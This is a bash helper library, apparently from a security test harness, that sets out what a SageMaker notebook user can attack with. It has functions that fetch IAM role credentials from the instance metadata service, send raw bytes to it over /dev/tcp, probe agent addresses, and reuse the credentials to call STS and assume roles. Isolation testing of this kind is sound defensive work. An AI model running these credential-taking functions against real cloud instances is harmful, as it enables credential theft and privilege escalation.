# shellcheck shell=bash disable=SC2119,SC2120 # take is called with arguments by what sources this
# What a user of a notebook instance has at hand to attack with. All that is printed is searched for credentials.
#
# In the environment: ROLE, the execution role's ARN; NAME and COLLEAGUE, the notebook's and another one's name; PYTHON, which
# has boto3 and pyarrow; PROGRAMS, the folder of the attacks in Python.

SERVICE=http://169.254.169.254
# SageMaker's, in the network layout that has one: the address that its NAT rules name, and another one.
AGENT=http://169.254.0.2:9081
# shellcheck disable=SC2034 # for what sources this
AGENTS="$AGENT http://169.254.0.3:9081"
LISTED=BaseNotebookInstanceEc2InstanceRole
CREDENTIALS=/latest/meta-data/iam/security-credentials/$LISTED

ask() { curl --silent --globoff --path-as-is --max-time "${PATIENCE:-3}" "$@"; }

# Prints a token; the arguments are the service's address, where it is another, and options of curl's.
token() { ask "${@:2}" -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 60' "${1:-$SERVICE}/latest/api/token"; }

# Takes the credentials as every client does, from the service at an address, with options of curl's.
take() {
  local given
  given=$(token "$@") || return 0
  ask "${@:2}" -H "X-aws-ec2-metadata-token: $given" "${1:-$SERVICE}$CREDENTIALS"
}

# Asks for a path as it stands.
get() { ask "${@:2}" -H "X-aws-ec2-metadata-token: $(token)" "$SERVICE$1"; }

# Sends bytes to the service as printf makes them, and prints all that comes back.
say() {
  exec 3<>/dev/tcp/169.254.169.254/80 || return 0
  # shellcheck disable=SC2059
  printf "$1" >&3
  timeout 1 cat <&3
  exec 3>&-
}

# Calls STS with credentials, as JSON on standard input; the arguments are the request's.
sts() {
  local key token parameters=() each
  { read -r key && read -r token; } < <(jq -r '.AccessKeyId + ":" + .SecretAccessKey, .Token')
  for each in Version=2011-06-15 "$@"; do parameters+=(--data-urlencode "$each"); done
  ask --aws-sigv4 aws:amz:us-east-1:sts --user "$key" -H "x-amz-security-token: $token" "${parameters[@]}" \
    https://sts.us-east-1.amazonaws.com/
}

# Opens a session of the role, or of another, with the credentials on standard input.
assume() { sts Action=AssumeRole "RoleArn=${3:-$ROLE}" "RoleSessionName=$1" ${2:+"SourceIdentity=$2"}; }

# The calls of an ordinary client.
client() { "$PYTHON" -c "import boto3; boto3.client('sts').get_caller_identity()"; }

# Makes the service's form of credentials from STS's XML.
as_json() {
  local xml given=()
  xml=$(cat)
  tag() { [[ $xml =~ "<$1>"([^<]*) ]] && given+=("${BASH_REMATCH[1]}"); }
  tag AccessKeyId && tag SecretAccessKey && tag SessionToken
  printf '{"AccessKeyId": "%s", "SecretAccessKey": "%s", "Token": "%s"}\n' "${given[@]}"
}

# Prints the notebook session's credentials, as the mode gives them.
own() {
  if grep -qs role_arn ~/.aws/config; then take | assume "$NAME" | as_json; else take; fi
}
